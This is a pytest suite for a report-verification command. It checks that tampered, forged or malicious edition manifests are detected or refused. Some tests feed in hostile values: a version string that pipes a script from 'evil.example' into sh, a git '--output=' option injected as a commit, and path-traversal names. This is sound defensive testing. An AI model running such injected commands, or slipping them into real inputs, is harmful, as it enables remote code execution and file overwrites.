import json
import os
import re
import shutil
from functools import partial
from pathlib import Path

import pytest
from command_line import command, refused
from small_edition import relogged
from small_project import NAME, SOURCE, verified

from nbpress.core import files
from nbpress.core.errors import TipResearchError
from nbpress.editions import folders, manifests, publication
from nbpress.engine import choice
from nbpress.inputs import project
from tipresearch.cli import proofs


@pytest.fixture(scope="module")
def kept(tmp_path_factory):
    """Where the folder of reports lies that the first of these tests has built."""
    return tmp_path_factory.mktemp("kept") / "reports"


@pytest.fixture
def edition(small, kept):
    """An edition of the project; later tests have a copy of the first, of the same project."""
    if kept.exists():
        shutil.copytree(kept, small.out, symlinks=True, dirs_exist_ok=True)
        return folders.latest(small.report)
    found, _ = small.build()
    shutil.copytree(small.out, kept, symlinks=True)
    return found


def differences(edition, **options):
    return {d.what: d for d in verified(edition, **options).differences}


def damaged(edition):
    """The files that are found changed, without a new build; an unreadable manifest is refused."""
    try:
        return set(differences(edition, rebuild=False))
    except TipResearchError as error:
        return set(re.findall(r"manifest\.json", str(error)))


@pytest.mark.slow
def test_edition_is_verified_by_a_new_build(small, edition):
    """A fresh edition is proven, files and numbers; the project and the edition stay as they were."""
    before = manifests.file_hashes(edition)
    done = command("verify", small.report / "latest")
    assert done.returncode == 0, done.stderr
    assert f"{edition.name} is verified by hash and by a new build: 11 files, 2 numbers." in done.stdout
    assert manifests.file_hashes(edition) == before
    assert sorted(p.name for p in small.home.iterdir()) == ["data", "notebooks", "reports"]


#: Shows whether the kernel was forked.
SHOWS_KERNEL = "import sys\nprint('nbpress.engine.forked' in sys.modules)"


@pytest.mark.slow
def test_notebooks_are_verified_in_cold_kernels(small, monkeypatch):
    """What a notebook shows in a warm kernel alone is a difference, whichever kernels its user has chosen."""
    monkeypatch.setenv(choice.VARIABLE, "warm")
    small.notebook(f"{SHOWS_KERNEL}\n{SOURCE}")
    edition, _ = small.build()
    ran = Path("notebooks", "small.ipynb")
    assert '"True\\n"' in (edition / ran).read_text("utf-8")
    found = verified(edition)
    assert ran.as_posix() in [d.what for d in found.differences]
    assert "built again with a new Python for each notebook, by nothing" in found.remarks


@pytest.mark.slow
def test_a_front_page_is_verified_with_who_answers_for_it(small):
    """Authors are words of the pages: another author is another edition, and a forged one is found."""
    shutil.copy(small.home / "notebooks" / "small.ipynb", small.home / "notebooks" / "front.ipynb")
    small.define(front="front", authors=["A. Author"], contact="the desk", licence="Mine.", language="ur")
    edition, _ = small.build()
    assert "A. Author" in (edition / "index.html").read_text("utf-8")
    assert not (edition / "front.html").exists()
    proven = command("verify", edition)
    assert proven.returncode == 0
    assert "other than reports/" not in proven.stdout
    small.define(front="front", authors=["B. Author"], contact="the desk")
    other, new = small.build()
    assert new
    assert other != edition
    manifest = manifests.read_manifest(other)
    manifest["authors"] = ["C. Forged"]
    (other / "manifest.json").write_text(files.json_text(manifest), encoding="utf-8")
    manifests.seal(other, manifest)
    assert "index.html" in differences(other)


@pytest.mark.slow
def test_one_changed_byte_is_found_in_every_file(edition):
    """Each byte of an edition is covered, the manifest's own among them; without a new build."""
    for path in sorted(p for p in edition.rglob("*") if p.is_file()):
        whole = path.read_bytes()
        for place in {0, len(whole) // 3, len(whole) // 2, len(whole) - 1}:
            path.write_bytes(whole[:place] + bytes([whole[place] ^ 1]) + whole[place + 1 :])
            name = path.relative_to(edition).as_posix()
            assert name in damaged(edition), (name, place)
        path.write_bytes(whole)
    assert damaged(edition) == set()


@pytest.mark.slow
def test_every_line_of_the_manifest_is_covered(edition, tmp_path):
    """A name or value changed anywhere in the manifest is found, and never a traceback; of an edition that was sent alone."""
    edition = shutil.copytree(edition, tmp_path / edition.name)
    path = edition / "manifest.json"
    lines = path.read_text("utf-8").splitlines(keepends=True)
    for number, line in enumerate(lines):
        other = re.sub(r"[0-9a-z]", lambda m: "1" if m[0] == "0" else "0", line, count=1)
        if other != line:
            path.write_text("".join([*lines[:number], other, *lines[number + 1 :]]), "utf-8")
            assert "manifest.json" in damaged(edition), line


@pytest.mark.slow
def test_changed_digit_is_named(edition):
    """A digit changed in results.csv is shown with the name of its indicator and both values."""
    path = edition / "results.csv"
    path.write_text(path.read_text("utf-8").replace("15255.0", "15256.0"), encoding="utf-8")
    done = command("verify", edition, "--no-rebuild")
    assert done.returncode == 1
    (line,) = [line for line in done.stdout.splitlines() if line.startswith("count 'Women'")]
    assert "value" in line
    assert "15255.0" in line
    assert "15256.0" in line
    rebuilt = differences(edition)
    assert {w.partition(" [")[0] for w in rebuilt} >= {"results.csv", "count 'Women' (PAK, 2020)"}


@pytest.mark.slow
def test_missing_and_added_files_are_found(edition):
    """A file that went and a file that came are both differences."""
    (edition / "small.html").unlink()
    (edition / "extra.txt").write_text("x", encoding="utf-8")
    found = differences(edition, rebuild=False)
    assert found["small.html"].found == "missing"
    assert found["extra.txt"].recorded == "none"


@pytest.mark.slow
def test_changed_input_is_named_with_both_hashes(small, edition):
    """Where the recorded input cannot be had, the numbers that differ are listed with the cause."""
    recorded = manifests.read_manifest(edition)["inputs"]["data/figures.csv"]
    small.figures("15255", "16000")
    done = command("verify", edition)
    assert done.returncode == 1
    now = files.file_hash(small.home / "data" / "figures.csv")
    assert any(
        all(part in line for part in ("data/figures.csv", recorded, now, "input changed"))
        for line in done.stdout.splitlines()
    )
    found = differences(edition)
    (number,) = [d for w, d in found.items() if w.startswith("count 'Women'")]
    assert (number.recorded, number.found) == ("15255.0", "16000.0")
    assert number.why == "data/figures.csv changed"
    # The fingerprint printed on the pages is no difference of its own.
    assert {"data/figures.csv", "results.csv", "results.json"} <= found.keys()
    assert "index.html" not in found


@pytest.mark.slow
def test_recorded_input_is_taken_from_history(small):
    """An input changed after it was committed is rebuilt from the commit; the edition is proven."""
    small.commit()
    edition, _ = small.build()
    small.figures("15255", "16000")
    found = verified(edition)
    assert found.differences == []
    assert [r for r in found.remarks if "figures.csv has changed since; commit" in r]
    assert found.rebuilt


@pytest.mark.slow
@pytest.mark.parametrize("named", ["no branch", "a tag", "merged"])
def test_a_commit_that_was_only_fetched_is_no_history(small, named):
    """Of a stranger's branch neither notebook nor data are taken, whatever names it, until it is merged."""
    small.commit()
    told = small.home / "pwned"
    small.git("checkout", "-q", "-b", "stranger")
    small.notebook(f"open({str(told)!r}, 'w').close()\n{SOURCE}")
    theirs = small.commit("theirs")
    edition, _ = small.build()
    told.unlink()
    small.git("checkout", "-q", "-")
    if named == "a tag":
        small.git("tag", "theirs", "stranger")
    if named == "merged":
        small.git("merge", "-q", "stranger")
    small.git("branch", "-q", "-D", "stranger")
    assert small.git("cat-file", "-t", theirs) == "commit"
    small.notebook()
    found = verified(edition)
    if named == "merged":
        assert told.exists()
        assert found.differences == []
        return
    assert not told.exists()
    why = [d.why for d in found.differences if d.what == "notebooks/small.ipynb"]
    assert why[0] == f"input changed; commit {theirs[:10]} is not in the history that is checked out here"


def resealed(edition, **changes):
    """Change a manifest so that it agrees with itself, as a forger would."""
    manifest = manifests.read_manifest(edition) | changes
    manifest = {k: v for k, v in manifest.items() if k not in changes or v is not None}
    text = manifests.manifest_text(manifest)
    (edition / "manifest.json").write_text(text, encoding="utf-8", newline="")
    relogged(edition)


def test_manifest_that_agrees_with_itself_proves_nothing(edition):
    """What it no longer records, and a content hash that is not that of the files, are found."""
    files = manifests.read_manifest(edition)["files"]
    resealed(edition, files=None)
    assert differences(edition)["manifest.json, files"].found == "missing"
    resealed(edition, files=files, content_sha256="0" * 64)
    assert differences(edition, rebuild=False)["content_sha256"].recorded == "0" * 64


def test_changed_manifest_is_the_finding_and_nothing_is_built_from_it(edition):
    """A changed byte in the name of an input is not told as a missing input."""
    path = edition / "manifest.json"
    path.write_text(path.read_text("utf-8").replace("data/figures", "data/figurez"), encoding="utf-8")
    done = command("verify", edition)
    assert done.returncode == 1, done.stderr
    assert re.search(r"^manifest.json +\w+ +other +changed after", done.stdout, re.MULTILINE)
    assert "nothing was built from it" in done.stdout


@pytest.mark.parametrize("name", ["../../outside", "/etc/outside"])
def test_manifest_leads_nowhere_outside(edition, name):
    """An edition of somebody else cannot have files written outside the place of the rebuild."""
    resealed(edition, inputs={name: "0" * 64})
    refused(command("verify", edition), f"{name!r} is a path that lies outside")


@pytest.mark.parametrize(
    ("name", "said"),
    [(f"{'a' * 900}/b.csv", "an input of "), (f"data_file: {'a' * 900}", "input data_file: aaa")],
)
def test_name_that_no_file_can_have_is_one_line(edition, name, said):
    """An input in a folder whose name is longer than a system takes, also of a file that a user gave."""
    resealed(edition, inputs={name: "0" * 64})
    refused(command("verify", edition), said)


@pytest.mark.parametrize("of", ["commit", "previous"])
@pytest.mark.parametrize("commit", ["HEAD", "--output=x", "0" * 39, "0" * 64, "A" * 40, "", "0" * 40 + "\n"])
def test_commit_is_forty_digits(edition, commit, of):
    """Another revision, an option or half a hash is refused, of the edition and of the one before."""
    before = {"edition": "x", "content_sha256": "0" * 64, "number": 1, "commit": commit} if of == "previous" else commit
    resealed(edition, **{of: before})
    refused(command("verify", edition), f"commit {commit!r} is not forty hexadecimal digits")


def test_no_option_reaches_git_from_a_manifest(small, edition, tmp_path):
    """git would write its answer to a file that a commit names as an option."""
    small.commit()
    small.figures("15255", "16000")
    victim = tmp_path / "victim:." / "data" / "figures.csv"
    victim.parent.mkdir(parents=True)
    victim.write_text("mine", encoding="utf-8")
    resealed(edition, commit=f"--output={tmp_path / 'victim'}")
    refused(command("verify", edition), "is not forty hexadecimal digits")
    assert victim.read_text("utf-8") == "mine"


@pytest.mark.parametrize(
    "changes", [{"files": []}, {"packages": "x"}, {"previous": "x"}, {"format": "x"}, {"commit": 1}]
)
def test_manifest_of_a_wrong_kind_is_damaged(edition, changes):
    """Something else under a known name is one line."""
    resealed(edition, **changes)
    ((name, value),) = changes.items()
    refused(command("verify", edition), f"its {name} {value!r} is of a wrong kind")


def test_link_in_place_of_a_file_is_found(edition, tmp_path):
    """A file that is only borrowed is not as published."""
    page = edition / "index.html"
    page.rename(tmp_path / "index.html")
    page.symlink_to(tmp_path / "index.html")
    assert differences(edition, rebuild=False)["index.html"].found == "a link"


@pytest.mark.slow
def test_changed_package_is_the_reason(edition):
    """Another version of a package is named with both versions where the build differs."""
    manifest = manifests.read_manifest(edition)
    manifest["packages"]["pandas"] = "0.1"
    resealed(edition, packages=manifest["packages"])
    found = verified(edition)
    assert found.differences == []
    assert any("pandas 0.1 → " in r and "without effect" in r for r in found.remarks)
    resealed(edition, title="Forged", pages=manifest["pages"] | {"more": "Forged"})
    assert "package pandas 0.1 → " in verified(edition).differences[-1].why


def test_packages_that_came_with_an_extra_are_one_entry():
    """Versions are named one by one; what came or went together is counted."""
    old = {"pandas": "3.0", "papermill": "2.6", "ruff": "1", "zmq": "1", "both": "1"}
    new = {"pandas": "3.1", "papermill": "2.6", "alabaster": "1", "Babel": "1", "sphinx": "9", "both": "1"}
    assert project.other_versions(old, new) == [
        "pandas 3.0 → 3.1",
        "alabaster and 2 others none → installed",
        "ruff and 1 other installed → none",
    ]
    assert project.other_versions({}, {"pandas": "3.1"}) == ["pandas none → 3.1"]


@pytest.mark.slow
def test_later_edition_is_verified_with_its_changes(small, edition):
    """The page of changes is made again from the edition before; where that is gone, a remark says so."""
    small.figures("15255", "16000")
    second, _ = small.build()
    assert verified(second).differences == []
    manifest = manifests.read_manifest(second)
    changes = (second / "changes.json").read_text("utf-8").replace("16000.0", "16001.0")
    (second / "changes.json").write_text(changes, encoding="utf-8")
    manifests.seal(second, manifest)  # hashes alone show it where the log stands
    assert list(differences(second, rebuild=False)) == [f"edition {second.name}, manifest.json"]
    relogged(second)
    assert differences(second, rebuild=False) == {}
    assert "changes.json" in differences(second)
    shutil.rmtree(edition)
    assert differences(second)["the edition before"].found == "gone or damaged"


@pytest.mark.slow
def test_inputs_that_differ_are_told_again(small):
    """Pages and log are written again with what is said: all hashes agree, and a new build sees it."""
    small.commit()
    first, _ = small.build()
    small.figures("15255", "16000")
    small.commit("later")
    second, _ = small.build()
    whole = manifests.read_manifest(second)
    (reason,) = whole["reasons"]
    assert (reason["file"], reason["rows"]) == ("data/figures.csv", ["women"])
    assert differences(second) == {}
    for said in ([], [reason | {"file": "data/other.csv"}], [reason | {"rows": ["men"]}]):
        for name in manifests.RENDERED:
            (second / name).unlink(missing_ok=True)
        manifest = whole | {"reasons": said}
        publication.render(second, manifest, first)
        manifests.seal(second, manifest)
        relogged(second)
        assert differences(second, rebuild=False) == {}
        found = differences(second)
        assert found.pop("manifest.json, reasons").recorded == '{"data/figures.csv": ["women"]}'
        assert found == {}
    assert verified(second, rebuild=False).asserted().endswith(f"reused, seconds, the numbers of {first.name} before")


@pytest.mark.slow
def test_what_a_manifest_says_is_rebuilt_or_said_to_be_asserted(edition):
    """A forged field is found though all hashes agree; what no build can know is named as such."""
    manifest = manifests.read_manifest(edition)
    assert manifest.keys() <= manifests.KNOWN
    assert "built, clean, commit" in verified(edition).asserted()
    forged = {
        "reference_date": "2030-01-01",
        "pages": {"small": "Other"},
        "number": 7,
        "reviewed_by": "somebody",
    }
    for name, value in forged.items():
        manifests.seal(edition, manifest | {name: value})
        found = verified(edition, rebuild=name in {"reference_date", "pages"})
        assert f"manifest.json, {name}" in [d.what for d in found.differences]


@pytest.mark.slow
def test_what_pages_say_of_the_report_is_compared_with_its_definition(small):
    """A build takes title, authors and licence from the manifest: another title in it is made again with all its pages."""
    small.define(authors=["A"])
    edition, _ = small.build()
    noted = partial(proofs._of_definition, manifests.read_manifest(edition))
    assert [*noted()] == []
    (small.out / f"{NAME}.toml").write_text(
        'title = "Other"\nnotebooks = ["small"]\nlicence = "CC0"\n', encoding="utf-8"
    )
    told = command("verify", edition)
    assert told.returncode == 0
    assert (
        "note: taken from the manifest, and other than reports/small.toml says now: title, authors, licence\n"
        in told.stdout
    )
    (small.out / f"{NAME}.toml").write_text(
        'title = "Small"\nauthors = ["A"]\nnotebooks = ["small"]\nparameters.n = 2\n', encoding="utf-8"
    )
    # As well could a report on 2020 be made again of another year: its title is not of the data.
    assert [*noted()] == ["taken from the manifest, and other than reports/small.toml says now: parameter n"]
    (small.out / f"{NAME}.toml").unlink()
    (alone,) = noted()
    assert (
        "languages, the choice of notebooks and parameters are taken from the manifest alone: report 'small' is not known"
        in alone
    )


def test_what_is_no_file_of_an_edition_is_found(edition, tmp_path):
    """An empty folder, a pipe, a second name of a file, and a folder that was renamed."""
    (edition / "empty").mkdir()
    os.mkfifo(edition / "pipe")
    os.link(edition / "results.csv", tmp_path / "other")
    found = differences(edition, rebuild=False)
    assert {what: d.found for what, d in found.items()} == {
        "empty": "an empty folder", "pipe": "no file, such as a pipe", "results.csv": "a file with a second name",
    }  # fmt: skip
    (edition / "empty").rmdir()
    (edition / "pipe").unlink()
    (tmp_path / "other").unlink()
    older = edition.rename(edition.with_name(f"2001{edition.name[4:]}"))
    assert set(differences(older, rebuild=False)) == {
        "its folder", "editions.log", f"edition {edition.name}", "latest beside the editions",
    }  # fmt: skip


def test_a_file_that_others_may_change_or_run_is_found(edition):
    """Though all files have that mode: the manifest does not vouch for its own."""
    for path in (p for p in edition.rglob("*") if p.is_file()):
        path.chmod(0o646)
    found = differences(edition, rebuild=False)
    assert found["index.html"].found == "a file with the mode 646, which others may change or run as its owner"


@pytest.mark.slow
def test_what_cannot_be_verified_is_one_line(small, edition, tmp_path):
    """No edition, one of an older version, and a missing input are refused with status 2."""
    refused(command("verify", tmp_path), f"{tmp_path} is no edition: it has no manifest.json")
    refused(command("verify", tmp_path / "nowhere"), "is no edition")
    (tmp_path / "manifest.json").write_text("{", encoding="utf-8")
    refused(command("verify", tmp_path), "manifest.json is damaged")
    manifest = manifests.read_manifest(edition)
    (small.home / "data" / "figures.csv").unlink()
    digest = manifest["inputs"]["data/figures.csv"]
    refused(command("verify", edition), f"input data/figures.csv is missing; it had sha256 {digest}")
    old = {k: v for k, v in manifest.items() if k not in ("format", "tipresearch", "files", "manifest_sha256")}
    old |= {"packages": {"tipresearch": "0.0.9"}, "commit": "abc1234" * 5 + "abcde"}
    (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
    refused(command("verify", edition), "was made by an older version, tipresearch '0.0.9'")
    refused(command("verify", edition), "verify it with that version: its wheel, from where this one came")
    old["commit"] = small.commit()
    (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
    refused(command("verify", edition), f"verify it with that version: git checkout {old['commit']}")


@pytest.mark.parametrize("version", ["0.0.9 && curl -s http://evil.example/x | sh", "0.0.9 --index-url x", "0\n"])
def test_a_manifest_words_no_command(small, edition, version):
    """Its version is one, or the edition is damaged; of a commit that is not of this history nothing is to be done."""
    manifest = manifests.read_manifest(edition) | {"format": manifests.FORMAT - 1, "commit": "0" * 40}
    resealed(edition, **manifest | {"tipresearch": "", "packages": {"tipresearch": version}})
    done = command("verify", edition)
    refused(done, f"tipresearch {version!r} (format ")
    resealed(edition, **manifest | {"tipresearch": version})
    refused(command("verify", edition), "is not a version of at most 50 letters, digits and")
    assert done.stderr.rstrip().endswith("verify it with that version: its wheel, from where this one came")


@pytest.mark.slow
def test_changed_code_is_named(small, edition):
    """A file of code whose recorded bytes are nowhere is named as changed code."""
    manifest = manifests.read_manifest(edition)
    manifest["inputs"]["nbpress/core/errors.py"] = "0" * 64
    (edition / "manifest.json").unlink()
    manifests.seal(edition, manifest | {"commit": None})
    relogged(edition)
    found = differences(edition)
    assert found["nbpress/core/errors.py"].why == "code changed"
    assert len(found) == 1
    assert small.report.name == NAME
